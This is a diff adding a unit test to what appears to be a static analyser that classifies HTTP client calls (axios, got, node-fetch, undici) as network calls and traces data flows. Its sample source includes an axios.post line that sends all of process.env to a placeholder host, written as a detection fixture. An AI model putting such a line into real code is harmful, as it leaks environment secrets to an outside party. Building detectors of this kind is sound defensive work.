@@ -83,6 +83,21 @@ describe('imports', () => {
 });
 
 describe('sensitive calls', () => {
+  it('counts HTTP client libraries as network calls, and what they send as flowing', () => {
+    const source = [
+      "import axios from 'axios';",
+      "const got = require('got');",
+      "const fetch = require('node-fetch');",
+      "const { request } = require('undici');",
+      "axios.post('https://collector.invalid/', JSON.stringify(process.env));",
+      "axios('https://a.invalid/'); got.get('https://b.invalid/'); fetch('https://c.invalid/');",
+      "request('https://d.invalid/');",
+    ].join('\n');
+    expect(calls(source)).toEqual(['axios.post', 'axios', 'got.get', 'node-fetch', 'undici.request']);
+    const flows = ofKind(run(source).facts, 'flow');
+    expect(flows.map((f) => (f.to.kind === 'call' ? f.to.api : ''))).toContain('axios.post');
+  });
+
   it('resolves modules through aliases, destructuring and direct calls', () => {
     expect(
       calls(
